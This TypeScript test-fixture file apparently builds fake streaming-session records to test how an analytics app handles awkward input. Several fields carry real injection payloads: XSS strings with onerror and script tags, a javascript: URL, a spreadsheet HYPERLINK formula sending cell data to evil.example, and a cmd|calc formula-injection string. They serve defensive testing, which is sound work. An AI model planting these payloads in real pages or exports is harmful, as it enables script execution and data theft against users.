import { createHash } from "node:crypto";
import type { Title } from "../catalogue/titles.ts";
import type { StoredSession } from "../sessions/session-spec.ts";
import { stories } from "../stories.ts";
import type { WireSession } from "../wire.ts";
import { serializedAs } from "./awkward-shapes.ts";
import { connection } from "./connections.ts";
import { createStoryViewer, type StoryContext } from "./story-viewer.ts";

const hostileAssets = [
  "<img src=x onerror=alert(1)>",
  '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
  "\u202eevil\u202c مسلسل الشتاء \u2067الحلقة 3\u2069",
  "Zero\u200bWidth\u200d \ufeffJoiner\u00ad\u2060!",
  `Endless ${"very long title ".repeat(640)}`,
  "+1+cmd|' /C calc'!A0 \u0000\u0007</script><script>alert(2)</script>",
];

/** Every text field contains hostile or invisible characters. */
export function awkwardText(context: StoryContext): StoredSession[] {
  const viewer = createStoryViewer(stories.awkwardText.viewerId, context, connection("comcast", "192.0.2.203"));
  return hostileAssets.flatMap((asset, index) =>
    viewer
      .sessions({ hoursAgo: 2 + index * 3, device: "chromeWindows", title: hostileTitle(asset) })
      .map((stored) => ({ ...stored, serialize: (session: WireSession) => withHostileText(session, asset) })),
  );
}

function hostileTitle(asset: string): Title {
  return { asset, category: "VoD", channel: asset.slice(0, 40), lengthMs: 3_000_000, weight: 0 };
}

function withHostileText(session: WireSession, asset: string): unknown {
  return {
    ...session,
    content_info: {
      ...session.content_info,
      stream_url: "https://cdn.example/a/master.m3u8?token=eyJhbGciOi.secret&viewer=awkward-text#t=1",
    },
    device_info: { ...session.device_info, name: `=1+1 ${asset.slice(0, 60)}` },
    status_info: { ...session.status_info, errors: [`@SUM(A1) ${asset.slice(0, 60)}`] },
    tags: {
      ...session.tags,
      custom_tags: {
        ...session.tags.custom_tags,
        age: "65",
        email: "private.person@example.com",
        "<b>name</b>": "\tjavascript:alert(3)",
      },
    },
  };
}

/** IP addresses, places and CDNs are hashed, empty or missing. */
export function awkwardNetwork(context: StoryContext): StoredSession[] {
  const viewer = createStoryViewer(stories.awkwardNetwork.viewerId, context, connection("comcast", "192.0.2.204"));
  const hashed = createHash("md5").update("salt 192.0.2.204").digest("hex");
  const [twoCdns] = viewer.sessions({ hoursAgo: 18, cdn: ["akamai", "fastly"] });
  const [onlyIpv6] = viewer.sessions({
    hoursAgo: 20,
    on: connection("tmobile", null, "2001:DB8:0:0:8:800:200C:417A"),
  });
  return [
    ...serializedAs(viewer, [
      (session) => ({ ...session, network_info: { ...session.network_info, ip: hashed } }),
      (session) => ({ ...session, network_info: { ...session.network_info, ip: null, isp: "" } }),
      (session) => ({ ...session, geo_info: {} }),
      ({ viewer_id: _viewer, ...session }) => ({
        ...session,
        network_info: { ...session.network_info, cdn: [], asn: { value: 33491 } },
      }),
    ]),
    ...[twoCdns, onlyIpv6].filter((stored) => stored !== undefined),
  ];
}
